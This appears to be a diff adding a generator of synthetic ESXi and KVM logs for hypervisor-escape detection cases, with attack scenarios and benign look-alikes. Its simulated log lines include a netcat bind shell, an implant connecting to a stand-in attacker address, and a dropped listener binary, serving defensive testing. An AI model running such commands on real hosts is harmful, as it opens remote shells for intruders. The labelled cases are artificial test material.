@@ -1,0 +1,181 @@
+"""Guests that break out of their hypervisor (job escape_chain): on ESXi and on KVM, whole and with parts of the chain missing."""
+
+from __future__ import annotations
+
+from datetime import datetime, timedelta
+
+from . import doings as do
+from .lines import Line, audit_record, esxi, virt_control
+from .parts import DAY, HOUR, Case, Host, Vm
+from .world import World
+
+JOB = "escape_chain"
+ATTACKER = "203.0.113."
+SVIRT = "system_u:system_r:svirt_t:s0:c12,c703"
+
+
+def esxi_whole(world: World, time: datetime) -> None:
+    """Denied hypercalls, a crash of the VMM process, a strange program, a login from the guest's own address."""
+    vm, host, case = _guest(world, time, "esxi", "esxi_whole")
+    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(20 * n), n) for n in range(world.rng.randrange(3, 9))), case=case)
+    crash = time + timedelta(minutes=world.rng.uniform(5, 90))
+    _core(world, crash, host, case)
+    do.command(world, crash + do.seconds(200), host.name, "chmod +x /tmp/.u; nohup /tmp/.u -l 8443 &", case=case)
+    do.vob(world, crash + do.seconds(203), host.name, "esx.audit.uw.security.execInstalledOnly.violation",
+           f"Execution of unknown (non VIB installed) binary '/tmp/.u' prevented. {do.MALWARE}", case)
+    do.esxi_ssh(world, crash + timedelta(minutes=world.rng.uniform(6, 40)), host.name, "root", vm.address, case)
+
+
+def esxi_moved(world: World, time: datetime) -> None:
+    """The guest probes on one host, is migrated by DRS, and breaks out on the other."""
+    vm, old, case = _guest(world, time, "esxi", "esxi_moved_between")
+    world.write(do.ESXI, *(_hypercall(vm, old, time + do.seconds(15 * n), n) for n in range(6)), case=case)
+    move = time + timedelta(minutes=40)
+    others = [host for host in world.hosts.values() if host.kind == "esxi" and host.cluster == old.cluster and host is not old]
+    new = world.rng.choice(others)
+    world.use(new.name)
+    world.move(move, vm.name, new.name, "drs")
+    case.names(host=new.name)
+    crash = move + timedelta(minutes=25)
+    _core(world, crash, new, case)
+    do.command(world, crash + do.seconds(240), new.name, "/tmp/implant --connect 203.0.113.90", case=case)
+    do.vob(world, crash + do.seconds(242), new.name, "esx.audit.uw.security.execInstalledOnly.warning",
+           f"Execution of unknown (non VIB installed) binary '/tmp/implant'. {do.MALWARE}", case)
+
+
+def esxi_quiet(world: World, time: datetime) -> None:
+    """No denied call is seen: a crash of the VMM process, then a listener of the host that nobody installed."""
+    vm, host, case = _guest(world, time, "esxi", "esxi_without_precursor")
+    _core(world, time, host, case)
+    do.command(world, time + timedelta(minutes=8), host.name, "nc -l -p 4444 -e /bin/sh", case=case)
+    do.vob(world, time + timedelta(minutes=9), host.name, "esx.audit.uw.security.execInstalledOnly.violation",
+           f"Execution of unknown (non VIB installed) binary '/tmp/vmtools.bin' prevented. {do.MALWARE}", case)
+    neighbour = world.rng.choice([other for other in world.on(host.name, time) if other is not vm and world.calm(other, time, time + HOUR)])
+    case.names(vm=neighbour.name)
+    world.write(do.ESXI, audit_record(time + timedelta(minutes=30), host.name, "vm.storage.add", subject="root", object=vm.vmx,
+                                      result="success", ip="127.0.0.1", path=neighbour.disk, opID="esxcli-5"), case=case)
+
+
+def kvm_whole(world: World, time: datetime) -> None:
+    """QEMU is denied files of others, dies of a signal, and a shell starts under its account."""
+    vm, host, case = _guest(world, time, "kvm", "kvm_whole")
+    for n in range(world.rng.randrange(2, 5)):
+        do.records(world, time + do.seconds(40 * n), host.name, "type=AVC msg={stamp}: avc:  denied  { read write } for  pid=1377 "
+                   f'comm="qemu-kvm" name="db{n:02d}.qcow2" dev="dm-0" ino=12981 scontext={SVIRT} '
+                   "tcontext=system_u:object_r:svirt_image_t:s0:c44,c991 tclass=file permissive=0", case=case)
+    crash = time + timedelta(minutes=world.rng.uniform(3, 60))
+    _abend(world, crash, vm, host, case)
+    _shell_of_qemu(world, crash + do.seconds(50), host, case)
+    do.ssh(world, crash + timedelta(minutes=12), host.name, "root", vm.address, case, "password")
+
+
+def kvm_seccomp(world: World, time: datetime) -> None:
+    """QEMU calls what its filter forbids; later its process runs a program on the host."""
+    _, host, case = _guest(world, time, "kvm", "kvm_program")
+    do.records(world, time, host.name, "type=SECCOMP msg={stamp}: auid=4294967295 uid=64055 gid=64055 ses=4294967295 pid=1379 "
+               'comm="qemu-system-x86" exe="/usr/bin/qemu-system-x86_64" sig=31 arch=c000003e syscall=59 compat=0 ip=0x7f2f4a1b2c3d '
+               "code=0x80000000", case=case)
+    _shell_of_qemu(world, time + timedelta(minutes=7), host, case)
+
+
+ATTACKS = (esxi_whole, esxi_moved, esxi_quiet, kvm_whole, kvm_seccomp)
+
+
+# --- negatives: named in the design, and what looks alike ---------------------------------------------------------------------------
+
+
+def hardware_mce(world: World, time: datetime) -> None:
+    """A machine check brings the host down, and with it a VMM process."""
+    _, host, case = _guest(world, time, "esxi", "hardware_mce", negative=True)
+    world.write(do.ESXI, *(esxi(time + do.seconds(n), host.name, "vmkernel", f"cpu{n}:2097{n}52)MCE: 1282: Status bits: \"Memory "
+                                   'Controller Error.\" Bank 7: 0xbe00000000801136 uncorrectable', 180) for n in range(3)), case=case)
+    do.vob(world, time + do.seconds(4), host.name, "esx.problem.apei.bert.memory.error.fatal",
+           "A fatal memory error occurred. The memory error occurred on physical address 0x7f3a1000.", case)
+    _core(world, time + do.seconds(20), host, case)
+    _crashed(world, time + timedelta(minutes=12), host, "MCE on CPU2: uncorrectable memory error", case)
+
+
+def live_update(world: World, time: datetime) -> None:
+    """QEMU is updated under running guests: they migrate to new processes on the same host, and the old ones end."""
+    vm, host, case = _guest(world, time, "kvm", "live_update_restart", negative=True)
+    do.run(world, time - do.seconds(60), host.name, 1001, "apt-get", "install", "-y", "qemu-system-x86", case=case)
+    guests = [other for other in world.on(host.name, time) if other is not vm and world.calm(other, time, time + HOUR)]
+    for nth, guest in enumerate([vm, *guests[:4]]):
+        moment = time + do.seconds(30 * nth)
+        world.write(do.AUDIT, virt_control(moment, world.serial(), guest.name, guest.uuid, "stop", "shutdown", node=host.name),
+                    virt_control(moment + do.seconds(8), world.serial(), guest.name, guest.uuid, "start", "booted", node=host.name),
+                    case=case)
+        case.names(vm=guest.name)
+
+
+def psod(world: World, time: datetime) -> None:
+    """A purple screen without anything before it; the host restarts and administrators look after it."""
+    _, host, case = _guest(world, time, "esxi", "psod_without_precursor", negative=True)
+    _crashed(world, time, host, "#PF Exception 14 in world 2097241:HELPER_MISC_Q", case)
+    person, bastion = world.rng.choice(world.people[:12]), world.vms["infra-bastion01"]
+    do.esxi_ssh(world, time + timedelta(minutes=25), host.name, "root", bastion.address, case)
+    do.command(world, time + timedelta(minutes=26), host.name, "esxcli system coredump partition list", case=case)
+    do.vcenter_login(world, time + timedelta(minutes=20), person.name, person.office)
+
+
+def investigated(world: World, time: datetime) -> None:
+    """A VMM process crashes by a fault of its own, and an administrator collects the dump from the bastion."""
+    _, host, case = _guest(world, time, "esxi", "crash_investigated", negative=True)
+    _core(world, time, host, case)
+    do.esxi_ssh(world, time + timedelta(minutes=50), host.name, "root", world.vms["infra-bastion02"].address, case)
+    do.command(world, time + timedelta(minutes=52), host.name, "vm-support -w /vmfs/volumes/ds01/support", case=case)
+
+
+def precursor_alone(world: World, time: datetime) -> None:
+    """A guest's old tools ask for what is denied, again and again; nothing else happens."""
+    vm, host, case = _guest(world, time, "esxi", "precursor_alone", negative=True)
+    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(300 * n), n) for n in range(5)), case=case)
+
+
+NEGATIVES = (hardware_mce, live_update, psod, investigated, precursor_alone)
+
+
+def _guest(world: World, time: datetime, kind: str, attack: str, negative: bool = False) -> tuple[Vm, Host, Case]:
+    """A guest and its host, touched by nothing else."""
+    for _ in range(20):
+        host = world.take_host(kind, time)
+        try:
+            vm = world.take_vm(time - DAY / 4, time + DAY / 4, host=host.name)
+        except LookupError:
+            continue
+        case = world.case(JOB, attack, negative)
+        case.names(vm=vm.name, host=host.name)
+        return vm, host, case
+    raise LookupError(f"no calm guest on {kind}")
+
+
+def _hypercall(vm: Vm, host: Host, time: datetime, number: int) -> Line:
+    return audit_record(time, host.name, "vm.hypercall.denied", subject="vmx", object=vm.vmx, result="failure", reason="Permission denied",
+                        type="Backdoor", value=str(60 + number))
+
+
+def _core(world: World, time: datetime, host: Host, case: Case) -> None:
+    do.vob(world, time, host.name, "esx.problem.application.core.dumped", "An application (/bin/vmx) running on ESXi host has crashed "
+           "(1 time(s) so far). A core file might have been created at /var/core/vmx-zdump.000.", case)
+
+
+def _crashed(world: World, time: datetime, host: Host, why: str, case: Case) -> None:
+    do.vob(world, time, host.name, "esx.audit.host.boot", "Host has booted.", case)
+    do.vob(world, time + do.seconds(1), host.name, "esx.problem.host.coredump", "An unread host kernel core dump has been found.", case)
+    down = f"{time - timedelta(minutes=9):%Y-%m-%dT%H:%M:%S}.000Z"
+    do.vob(world, time + do.seconds(2), host.name, "esx.audit.host.crash.reason",
+           f"The crash at {down} occurred due to: {why}. More details will be available in the generated vmkernel-zdump.", case)
+
+
+def _abend(world: World, time: datetime, vm: Vm, host: Host, case: Case) -> None:
+    do.records(world, time, host.name, "type=ANOM_ABEND msg={stamp}: auid=4294967295 uid=64055 gid=109 ses=4294967295 pid=5123 "
+               'comm="qemu-system-x86" exe="/usr/bin/qemu-system-x86_64" sig=11 res=1', case=case)
+    world.write(do.AUDIT, virt_control(time + do.seconds(0.3), world.serial(), vm.name, vm.uuid, "stop", "failed", node=host.name),
+                case=case)
+
+
+def _shell_of_qemu(world: World, time: datetime, host: Host, case: Case) -> None:
+    do.records(world, time, host.name, "type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55f1 a1=7ffc a2=0 a3=0 "
+               "items=2 ppid=6234 pid=6235 auid=4294967295 uid=64055 gid=64055 euid=64055 suid=64055 fsuid=64055 egid=64055 sgid=64055 "
+               'fsgid=64055 tty=(none) ses=4294967295 comm="dash" exe="/usr/bin/dash" key="qemu_user_exec"',
+               'type=EXECVE msg={stamp}: argc=3 a0="/bin/sh" a1="-c" a2="id"', case=case)
